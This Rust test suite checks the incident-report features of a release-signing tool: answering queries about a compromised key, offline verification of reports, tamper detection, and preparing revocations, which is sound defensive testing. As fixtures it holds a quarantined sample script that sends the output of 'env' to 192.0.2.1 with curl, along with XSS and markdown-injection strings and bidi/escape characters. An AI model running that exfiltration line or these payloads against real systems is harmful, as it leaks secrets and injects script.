//! Incident reports, by the built programs: what is asked is answered, a stranger verifies it
//! offline, what was changed is found, and what is prepared can be signed and sent.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use countersign::cmd::common::time;
use countersign_tests::bench::{Bench, ROOTS, bench};
use countersign_tests::{Said, binary, run};
use ledger::{hex32, sha256};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

/// What a thief or a careless person writes for everybody to read.
const HOSTILE: &str = "<script>alert(1)</script>~](javascript:alert(1))~\u{202e}gpj";

/// Versions 1 to 3 by a key that is then in other hands: 2 is a thief's, 3 is genuine.
struct Scene {
    bench: Bench,
    old: String,
}

impl Scene {
    fn begin() -> Self {
        let bench = bench();
        let old = bench.id("release1");
        bench.key("release2");
        for version in ["1", "2", "3"] {
            bench.published(version, "release1");
        }
        Self { bench, old }
    }

    /// What the owner does about it.
    fn answered() -> Self {
        let scene = Self::begin();
        let (bench, old, second) = (&scene.bench, &scene.old, scene.entry("2"));
        bench.ok(&format!("keys rotate --old {old} --new release2 {ROOTS}"));
        bench.ok(&format!(
            "keys revoke {old} --reason {HOSTILE} --compromised-since {second} {ROOTS}"
        ));
        bench.ok("publish tool-3 --project acme/tool --version 3 --key release2 --restate");
        bench.ok(&format!("withdraw --version 1 --project acme/tool --reason leaks --successor {HOSTILE} --key release2 --yes"));
        bench.published("4", "release2");
        scene
    }

    /// Where the first release of a version stands.
    fn entry(&self, version: &str) -> u64 {
        let all = self.bench.json("releases acme/tool --json");
        let all = all["releases"].as_array().unwrap().clone();
        let ends = format!("@{version}");
        let of = |r: &&Value| r["purl"].as_str().unwrap().ends_with(&ends);
        all.iter().find(of).unwrap()["index"].as_u64().unwrap()
    }

    fn report(&self, question: &str, out: &str) -> Value {
        self.bench
            .ok(&format!("incident report acme/tool {question} --out {out}"));
        let bytes = fs::read(self.bench.path(out).join("report.json")).unwrap();
        serde_json::from_slice(&bytes).unwrap()
    }
}

/// Somebody who has a report and the policy, and nothing else: no state, and no log to ask.
struct Stranger {
    dir: tempfile::TempDir,
}

impl Stranger {
    fn given(bench: &Bench, report: &str) -> Self {
        let stranger = Self {
            dir: tempfile::tempdir().unwrap(),
        };
        copy(&bench.path(report), &stranger.report());
        let policy = fs::read_to_string(bench.path("policy.toml")).unwrap();
        let offline = policy.replace(&bench.url, "http://127.0.0.1:9");
        fs::write(stranger.dir.path().join("policy.toml"), offline).unwrap();
        stranger
    }

    fn report(&self) -> PathBuf {
        self.dir.path().join("report")
    }

    fn verify(&self, more: &str) -> Said {
        let mut command = Command::new(binary("countersign").unwrap());
        command
            .args(["incident", "verify", "report"])
            .args(more.split_whitespace())
            .env("COUNTERSIGN_STATE", self.dir.path().join("state.json"))
            .env("COUNTERSIGN_POLICY", self.dir.path().join("policy.toml"))
            .current_dir(self.dir.path());
        run(command).unwrap()
    }

    fn verified(&self) -> Vec<String> {
        let said = self.verify("");
        let out = String::from_utf8(said.out).unwrap();
        assert_eq!(said.code, 0, "{out}\n{}", said.err);
        let proven = out.lines().filter(|l| l.starts_with("proven: entry "));
        proven.map(str::to_owned).collect()
    }

    /// With something changed the report is refused so; then it is put back.
    fn refused(&self, kind: &str, change: impl FnOnce(&Path)) -> String {
        let (whole, report) = (self.dir.path().join("whole"), self.report());
        copy(&report, &whole);
        change(&report);
        let said = self.verify("");
        assert!(
            said.code == 1 && said.err.contains(&format!("[{kind}]")),
            "want {kind}, got {}: {}",
            said.code,
            said.err
        );
        assert!(said.err.contains("hint:"), "{}", said.err);
        let json: Value = serde_json::from_slice(&self.verify("--json").out).unwrap();
        if json.get("verified").is_some() {
            assert_eq!(json["verified"], false, "{json}");
        }
        fs::remove_dir_all(&report).unwrap();
        fs::rename(whole, report).unwrap();
        String::from_utf8(said.out).unwrap() + &said.err
    }
}

fn copy(from: &Path, to: &Path) {
    fs::create_dir(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let to = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy(&entry.path(), &to);
        } else {
            fs::copy(entry.path(), to).unwrap();
        }
    }
}

fn edit(file: &Path, change: impl FnOnce(&mut Value)) {
    let mut value: Value = serde_json::from_slice(&fs::read(file).unwrap()).unwrap();
    change(&mut value);
    fs::write(file, ledger::json::to_canonical(&value).unwrap()).unwrap();
}

fn numbers(list: &Value, name: &str) -> Vec<u64> {
    let list = list.as_array().unwrap().iter();
    list.map(|v| v[name].as_u64().unwrap()).collect()
}

#[test]
fn each_question_is_answered_and_a_stranger_verifies_every_line_offline() {
    let mut scene = Scene::answered();
    let [one, two, three] = ["1", "2", "3"].map(|v| scene.entry(v));
    let digest = hex32(&sha256(b"the tool, 2\n"));
    let releases = scene.bench.json("releases acme/tool --json");
    let first = releases["releases"][0]["time"].as_u64().unwrap();
    let old = scene.old.clone();
    let key = scene.report(&format!("--key {:.8}", old), "by-key");
    assert_eq!(key["asked"]["question"], json!({ "key": old }));
    let standings: Vec<&str> = key["releases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["standing"].as_str().unwrap())
        .collect();
    assert_eq!(standings, ["withdrawn", "void", "void", "stands"]);
    assert_eq!(numbers(&key["releases"], "index")[..3], [one, two, three]);
    assert_eq!(key["keys"][0]["id"], old);
    assert_eq!(key["keys"][0]["since"], two);
    assert_eq!(key["revocations"][0]["compromisedSince"], two);
    assert_eq!(key["withdrawals"].as_array().unwrap().len(), 1);
    // All is said already: nothing is left to sign.
    assert_eq!(key["next"], json!([]));
    assert!(key["good"]["purl"].as_str().unwrap().ends_with("@4"));
    let kinds: BTreeSet<&str> = key["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        BTreeSet::from(["project", "release", "revocation", "withdrawal"])
    );
    // The release that nothing is wrong with is not in it.
    assert!(!numbers(&key["timeline"], "index").contains(&scene.entry("4")));

    let digest = scene.report(&format!("--digest {digest}"), "by-digest");
    assert_eq!(numbers(&digest["releases"], "index"), [two]);
    assert_eq!(digest["releases"][0]["against"]["key"], old);
    let version = scene.report("--version 3", "by-version");
    assert_eq!(version["releases"].as_array().unwrap().len(), 2);
    assert_eq!(
        version["releases"][0]["restated"]["index"],
        version["releases"][1]["index"]
    );
    // The project stated it again: that is not to be withdrawn.
    assert_eq!(version["next"], json!([]));
    let window = scene.report(
        &format!("--since {} --until {}", time(first), time(first + 3600)),
        "by-window",
    );
    assert!(
        numbers(&window["timeline"], "index").len() >= numbers(&key["timeline"], "index").len()
    );
    let empty = scene.report(
        "--since 2020-01-01T00:00:00Z --until 2020-02-01T00:00:00Z",
        "empty",
    );
    assert_eq!(empty["releases"], json!([]));
    // Bytes that were never released: that is what the history proves.
    let never = scene.report(&format!("--digest {}", "ab".repeat(32)), "never");
    assert_eq!(never["releases"], json!([]));
    let text = fs::read_to_string(scene.bench.path("never/report.md")).unwrap();
    assert!(
        text.contains("No release of the project has these bytes"),
        "{text}"
    );

    scene.bench.stop();
    for name in [
        "by-key",
        "by-digest",
        "by-version",
        "by-window",
        "empty",
        "never",
    ] {
        let stranger = Stranger::given(&scene.bench, name);
        let report = fs::read(stranger.report().join("report.json")).unwrap();
        let report: Value = serde_json::from_slice(&report).unwrap();
        let lines = stranger.verified();
        assert_eq!(lines.len(), report["timeline"].as_array().unwrap().len());
        assert!(!lines.is_empty());
        let json: Value = serde_json::from_slice(&stranger.verify("--json").out).unwrap();
        assert_eq!(json["verified"], true);
        // Each proof stands by itself, too.
        for row in report["timeline"].as_array().unwrap() {
            let bundle = format!("{name}/{}", row["proof"].as_str().unwrap());
            let said = scene
                .bench
                .json(&format!("verify --statement {bundle} --json"));
            assert_eq!(said["statement"], row["statement"]);
            assert_eq!(said["standing"], row["standing"]);
        }
    }
}

#[test]
fn what_was_changed_is_missing_or_surplus_is_found() {
    let scene = Scene::answered();
    let report = scene.report(&format!("--key {}", scene.old), "report");
    let (two, three) = (scene.entry("2"), scene.entry("3"));
    let stranger = Stranger::given(&scene.bench, "report");
    assert_eq!(
        stranger.verified().len(),
        report["timeline"].as_array().unwrap().len()
    );
    let json = "report.json";
    let row = |value: &mut Value, index: u64, name: &str, to: Value| {
        let rows = value["timeline"].as_array_mut().unwrap();
        let row = rows.iter_mut().find(|r| r["index"] == index).unwrap();
        row[name] = to;
    };
    // A line that says something else than its proof, in each field.
    for (name, to) in [
        ("time", json!(1)),
        ("kind", json!("withdrawal")),
        ("says", json!("all is well")),
        ("statement", json!("00".repeat(32))),
        ("keys", json!(["00".repeat(32)])),
        ("standing", json!("stands")),
        ("because", json!("00".repeat(32))),
        ("proof", json!(format!("proofs/{three}.bundle"))),
        ("sha256", json!("00".repeat(32))),
    ] {
        let said = stranger.refused("row-changed", |r| {
            edit(&r.join(json), |v| row(v, two, name, to))
        });
        assert!(
            said.contains(&format!("NOT PROVEN: entry {two} ")),
            "{said}"
        );
        assert!(said.contains(&format!("proven: entry {three} ")), "{said}");
    }
    // A line that is not there, with its proof or without; or one too many, or out of order.
    let without = |v: &mut Value| {
        v["timeline"]
            .as_array_mut()
            .unwrap()
            .retain(|r| r["index"] != two)
    };
    stranger.refused("row-missing", |r| edit(&r.join(json), without));
    stranger.refused("file-missing", |r| {
        edit(&r.join(json), without);
        fs::remove_file(r.join(format!("proofs/{two}.bundle"))).unwrap();
    });
    stranger.refused("row-surplus", |r| {
        edit(&r.join(json), |v| {
            let rows = v["timeline"].as_array_mut().unwrap();
            let mut more = rows[1].clone();
            more["index"] = json!(1_000);
            rows.push(more);
        });
    });
    stranger.refused("row-surplus", |r| {
        edit(&r.join(json), |v| {
            let rows = v["timeline"].as_array_mut().unwrap();
            rows.insert(1, rows[1].clone());
        });
    });
    stranger.refused("row-changed", |r| {
        edit(&r.join(json), |v| {
            v["timeline"].as_array_mut().unwrap().swap(0, 1)
        });
    });
    // Proofs.
    let bundle = |index: u64| format!("proofs/{index}.bundle");
    stranger.refused("proof-swapped", |r| {
        fs::copy(r.join(bundle(three)), r.join(bundle(two))).unwrap();
    });
    stranger.refused("file-changed", |r| {
        let mut bytes = fs::read(r.join(bundle(two))).unwrap();
        bytes.truncate(bytes.len() - 9);
        fs::write(r.join(bundle(two)), bytes).unwrap();
    });
    stranger.refused("file-missing", |r| {
        fs::remove_file(r.join(bundle(three))).unwrap()
    });
    stranger.refused("file-surplus", |r| {
        fs::copy(r.join(bundle(three)), r.join(bundle(1_000))).unwrap();
    });
    // The same statement in another view is not the proof that the line names.
    scene.bench.published("5", "release2");
    scene.report("--version 2", "later");
    let later = scene.bench.path("later").join(bundle(two));
    stranger.refused("proof-swapped", |r| {
        fs::copy(&later, r.join(bundle(two))).unwrap();
    });
    // An entry of the history that is left out, twice there, or another.
    let history = "proofs/history.jsonl";
    let lines = |r: &Path| {
        let text = fs::read_to_string(r.join(history)).unwrap();
        text.lines().map(str::to_owned).collect::<Vec<_>>()
    };
    let put =
        |r: &Path, lines: &[String]| fs::write(r.join(history), lines.join("\n") + "\n").unwrap();
    stranger.refused("history-incomplete", |r| {
        let mut all = lines(r);
        all.pop();
        put(r, &all);
    });
    stranger.refused("file-changed", |r| {
        let mut all = lines(r);
        all.swap(1, 2);
        put(r, &all);
    });
    stranger.refused("file-changed", |r| {
        let mut all = lines(r);
        all[2] = all[2].replacen("\"index\":3,", "\"index\":4,", 1);
        put(r, &all);
    });
    // What is for people, and for databases.
    for name in ["report.md", "report.html"] {
        stranger.refused("file-changed", |r| {
            let text = fs::read_to_string(r.join(name)).unwrap();
            fs::write(r.join(name), text.replace("void", "good")).unwrap();
        });
        stranger.refused("file-missing", |r| fs::remove_file(r.join(name)).unwrap());
    }
    let osv = |r: &Path| {
        fs::read_dir(r.join("osv"))
            .unwrap()
            .next()
            .unwrap()
            .unwrap()
            .path()
    };
    stranger.refused("file-changed", |r| {
        edit(&osv(r), |v| v["affected"] = json!([]))
    });
    stranger.refused("file-missing", |r| fs::remove_file(osv(r)).unwrap());
    stranger.refused("file-surplus", |r| {
        fs::write(r.join("run-me.sh"), "x").unwrap()
    });
    for (part, to) in [
        ("releases", json!([])),
        ("keys", json!([])),
        ("revocations", json!([])),
        ("withdrawals", json!([])),
        ("entries", json!(3)),
        ("steps", json!(["countersign keys revoke"])),
    ] {
        stranger.refused("report-changed", |r| edit(&r.join(json), |v| v[part] = to));
    }
    stranger.refused("report-changed", |r| {
        edit(&r.join(json), |v| {
            v["project"]["contact"] = json!("mailto:thief@evil.example")
        });
    });
    // Another question has other lines.
    stranger.refused("row-surplus", |r| {
        edit(&r.join(json), |v| {
            v["asked"]["question"] = json!({ "version": "4" })
        });
    });
    stranger.refused("report-malformed", |r| {
        edit(&r.join(json), |v| v["more"] = json!(1))
    });
    // After all this it is as it was.
    stranger.verified();
    // Of another project, and of a version to come.
    let said = {
        let policy = stranger.dir.path().join("policy.toml");
        let text = fs::read_to_string(&policy).unwrap();
        let id = report["project"]["id"].as_str().unwrap();
        fs::write(&policy, text.replace(id, &"00".repeat(32))).unwrap();
        let said = stranger.verify("");
        fs::write(&policy, text).unwrap();
        said
    };
    assert!(
        said.code == 2 && said.err.contains("[unknown-project]"),
        "{}",
        said.err
    );
    edit(&stranger.report().join(json), |v| {
        v["apiVersion"] = json!("countersign/v9")
    });
    let said = stranger.verify("");
    assert!(
        said.code == 3 && said.err.contains("[report-version]"),
        "{}",
        said.err
    );
}

#[test]
fn what_is_prepared_can_be_signed_and_sent_and_the_next_report_says_so() {
    let scene = Scene::begin();
    let (bench, old) = (&scene.bench, &scene.old);
    let two = scene.entry("2");
    let report = scene.report(
        &format!("--key {old} --compromised-since {two} --reason stolen~from~CI"),
        "first",
    );
    let next: Vec<&str> = report["next"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["file"].as_str().unwrap())
        .collect();
    let revoke = format!("next/revoke-{old:.16}.json");
    assert_eq!(next[0], revoke);
    assert_eq!(next.len(), 4, "{next:?}");
    // Nothing is said against anything yet, and no record says so.
    assert_eq!(fs::read_dir(bench.path("first/osv")).unwrap().count(), 0);
    let steps = report["steps"].to_string();
    assert!(
        steps.contains(&format!("keys rotate --project acme/tool --old {old}")),
        "{steps}"
    );
    let page = fs::read_to_string(bench.path("first/report.html")).unwrap();
    assert!(!page.contains("keys rotate"), "that is not for customers");
    let stranger = Stranger::given(bench, "first");
    // Prepared is not signed: nobody may change what will be.
    stranger.refused("file-changed", |r| {
        edit(&r.join(&revoke), |v| {
            v["payload"] = json!(ledger::b64(b"{}"))
        });
    });
    stranger.refused("file-missing", |r| {
        fs::remove_file(r.join(&revoke)).unwrap()
    });

    let sent = |file: &str, keys: &str| {
        bench.ok(&format!("sign first/{file} {keys}"));
        bench.ok(&format!("submit first/{file} --out sent.bundle"));
    };
    sent(&revoke, "--key root1 --key root2");
    bench.ok(&format!("keys rotate --old {old} --new release2 {ROOTS}"));
    sent(
        &format!("next/withdraw-{two}.json"),
        "--key root1 --key root3",
    );
    // The signatures do not make another report of it.
    Stranger::given(bench, "first").verified();
    bench.ok("publish tool-3 --project acme/tool --version 3 --key release2 --restate");
    let second = scene.report(&format!("--key {old}"), "second");
    let said = &second["revocations"][0];
    assert_eq!(
        (&said["compromisedSince"], &said["reason"]),
        (&json!(two), &json!("stolen from CI"))
    );
    let standing = |r: &Value| {
        (
            r["index"].as_u64().unwrap(),
            r["standing"].as_str().unwrap().to_owned(),
        )
    };
    let standings: Vec<_> = second["releases"]
        .as_array()
        .unwrap()
        .iter()
        .map(standing)
        .collect();
    assert_eq!(standings[0], (scene.entry("1"), "stands".into()));
    assert_eq!(standings[1], (two, "void".into()));
    let next: Vec<&str> = second["next"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["file"].as_str().unwrap())
        .collect();
    assert_eq!(next, [format!("next/withdraw-{}.json", scene.entry("1"))]);
    Stranger::given(bench, "second").verified();
}

#[test]
fn osv_records_have_what_the_schema_wants_and_speak_of_nothing_genuine() {
    let scene = Scene::answered();
    scene.report(&format!("--key {}", scene.old), "report");
    let mut versions = BTreeSet::new();
    let shape = |time: &str| time.replace(|c: char| c.is_ascii_digit(), "0");
    for file in fs::read_dir(scene.bench.path("report/osv")).unwrap() {
        let path = file.unwrap().path();
        let osv: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
        let text = |v: &Value| v.as_str().unwrap().to_owned();
        // Required, and of the form that the schema gives.
        assert_eq!(
            format!("{}.json", text(&osv["id"])),
            path.file_name().unwrap().to_str().unwrap()
        );
        assert!(text(&osv["id"]).starts_with("COUNTERSIGN-"));
        assert_eq!(text(&osv["schema_version"]).split('.').count(), 3);
        for name in ["modified", "published"] {
            let at = text(&osv[name]);
            assert!(shape(&at) == "0000-00-00T00:00:00Z", "{at}");
        }
        assert!(text(&osv["summary"]).len() <= 120 && !text(&osv["details"]).is_empty());
        let known = [
            "schema_version",
            "id",
            "modified",
            "published",
            "summary",
            "details",
            "affected",
            "references",
            "database_specific",
        ];
        assert!(
            osv.as_object()
                .unwrap()
                .keys()
                .all(|k| known.contains(&k.as_str()))
        );
        for affected in osv["affected"].as_array().unwrap() {
            let package = &affected["package"];
            assert!(!text(&package["ecosystem"]).is_empty() && !text(&package["name"]).is_empty());
            assert_eq!(package["purl"], "pkg:generic/acme/tool");
            versions.extend(affected["versions"].as_array().unwrap().iter().map(text));
        }
        let references = osv["references"].as_array().unwrap();
        assert_eq!(references.len(), 2);
        for reference in references {
            assert_eq!(reference["type"], "EVIDENCE");
            let url = text(&reference["url"]);
            // What it refers to is there, and proves it.
            let host = url.strip_prefix("http://").unwrap();
            let (host, path) = host.split_at(host.find('/').unwrap());
            let (status, bundle) = countersign_tests::bench::get(host, path);
            assert!(status.starts_with("200"), "{url}: {status}");
            assert!(ledger::bundle::Bundle::parse(&bundle).is_ok());
        }
        let own = &osv["database_specific"];
        assert!(own["index"].is_u64() && own["by"]["index"].is_u64());
        assert_eq!(text(&own["statement"]).len(), 64);
        assert_eq!(text(&own["by"]["statement"]).len(), 64);
        assert!(!osv.to_string().contains('\u{202e}'));
    }
    // Not 3: its bytes were stated again.
    assert_eq!(versions, BTreeSet::from(["1".to_owned(), "2".to_owned()]));
}

#[test]
fn samples_are_observations_and_hostile_text_is_only_text() {
    let scene = Scene::answered();
    let bench = &scene.bench;
    let bytes = b"#!/bin/sh\ncurl -d \"$(env)\" http://192.0.2.1/\n";
    let digest = hex32(&sha256(bytes));
    fs::create_dir(bench.path("quarantine")).unwrap();
    fs::write(bench.path(&format!("quarantine/{digest}.bin")), bytes).unwrap();
    let hostile = format!("{HOSTILE}\u{1b}[2J`|`\n# heading\" onload=x");
    let account = json!({ "subject": hostile, "why": "bytes-not-logged", "userAgent": hostile, "proxy": null,
        "request": [["Accept", hostile]], "answers": [{ "url": hostile, "status": 200, "headers": [["X", hostile]] }],
        "began": "2026-01-31T08:30:00Z", "ended": hostile, "size": bytes.len(), "whole": true });
    fs::write(
        bench.path(&format!("quarantine/{digest}-1.json")),
        account.to_string(),
    )
    .unwrap();
    let report = scene.report(
        &format!("--key {} --quarantine quarantine", scene.old),
        "report",
    );
    let sample = &report["samples"][0];
    assert_eq!(
        (&sample["sha256"], &sample["released"]),
        (&json!(digest), &json!([]))
    );
    assert_eq!(
        fs::read(bench.path(&format!("report/samples/{digest}.bin"))).unwrap(),
        bytes
    );
    let markdown = fs::read_to_string(bench.path("report/report.md")).unwrap();
    let html = fs::read_to_string(bench.path("report/report.html")).unwrap();
    for text in [&markdown, &html] {
        assert!(text.contains("observations, not proofs"), "{text}");
        assert!(!text.contains("<script"), "{text}");
        assert!(!text.contains(['\u{202e}', '\u{1b}']), "{text:?}");
        assert!(text.contains(&digest));
    }
    assert!(!markdown.contains("](javascript"), "{markdown}");
    assert!(!markdown.contains("\n# heading"), "{markdown}");
    // No script, nothing from elsewhere, and no attribute that came from outside.
    assert!(
        html.contains("default-src 'none'") && !html.contains("\" onload"),
        "{html}"
    );
    assert!(
        !html.contains(" src=") && !html.contains("<link") && !html.contains("url("),
        "{html}"
    );
    let hrefs: Vec<&str> = html.split("href=\"").skip(1).collect();
    assert!(hrefs.iter().all(|h| h.starts_with("proofs/")), "{html}");

    let stranger = Stranger::given(bench, "report");
    let said = stranger.verify("");
    let out = String::from_utf8(said.out).unwrap();
    assert_eq!(said.code, 0, "{}", said.err);
    assert!(out.contains("observed, not proven: sample"), "{out}");
    assert!(!out.contains(['\u{202e}', '\u{1b}']), "{out:?}");
    let bin = format!("samples/{digest}.bin");
    stranger.refused("sample-changed", |r| {
        fs::write(r.join(&bin), "other").unwrap();
    });
    stranger.refused("sample-changed", |r| fs::remove_file(r.join(&bin)).unwrap());
    stranger.refused("sample-changed", |r| {
        edit(&r.join(format!("samples/{digest}-1.json")), |v| {
            v["why"] = json!("x")
        });
    });
    stranger.refused("sample-changed", |r| {
        let other = hex32(&sha256(b"other"));
        fs::write(r.join(format!("samples/{other}.bin")), "other").unwrap();
    });
    stranger.refused("file-surplus", |r| {
        fs::write(r.join("samples/x"), "x").unwrap()
    });
    // By its digest it is found too, though no release has it; by another it is not.
    let by_digest = scene.report(
        &format!("--digest {digest} --quarantine quarantine"),
        "by-digest",
    );
    assert_eq!(by_digest["samples"].as_array().unwrap().len(), 1);
    let other = scene.report(
        &format!("--digest {} --quarantine quarantine", "ab".repeat(32)),
        "other",
    );
    assert_eq!(other["samples"], json!([]));
    fs::write(bench.path(&format!("quarantine/{digest}.bin")), "changed").unwrap();
    bench.refused(
        1,
        "sample-changed",
        &format!(
            "incident report acme/tool --key {} --quarantine quarantine --out none",
            scene.old
        ),
    );
    bench.refused(
        2,
        "bad-quarantine",
        &format!(
            "incident report acme/tool --key {} --quarantine . --out none",
            scene.old
        ),
    );
    assert!(!bench.path("none").exists());
}

#[test]
fn a_report_is_written_whole_or_not_at_all_and_one_question_is_asked() {
    let mut scene = Scene::begin();
    let usage = |args: &str| {
        let said = scene
            .bench
            .client(&format!("incident report acme/tool --out none {args}"));
        assert_eq!(said.code, 2, "{args}: {}", said.err);
    };
    usage("");
    usage("--version 1 --key 12345678");
    usage("--since 2026-01-01T00:00:00Z");
    usage("--version 1 --compromised-since 3");
    let refused = |kind: &str, args: &str| {
        scene.bench.refused(
            2,
            kind,
            &format!("incident report acme/tool --out none {args}"),
        );
    };
    refused("unknown-key", "--key 00000000");
    refused("unknown-release", "--version 9");
    refused("bad-digest", "--digest 12");
    refused("bad-time", "--since yesterday --until 2026-01-01T00:00:00Z");
    refused(
        "bad-window",
        "--since 2026-01-02T00:00:00Z --until 2026-01-01T00:00:00Z",
    );
    scene.report("--version 1", "report");
    scene.bench.refused(
        2,
        "out-not-empty",
        "incident report acme/tool --version 1 --out report",
    );
    scene.bench.stop();
    let said = scene
        .bench
        .client("incident report acme/tool --version 1 --out none");
    assert_eq!(said.code, 3, "{}", said.err);
    assert!(!scene.bench.path("none").exists());
    let left = fs::read_dir(scene.bench.dir.path()).unwrap();
    let left: Vec<String> = left
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert!(
        !left.iter().any(|n| n.starts_with(".countersign-incident")),
        "{left:?}"
    );
}
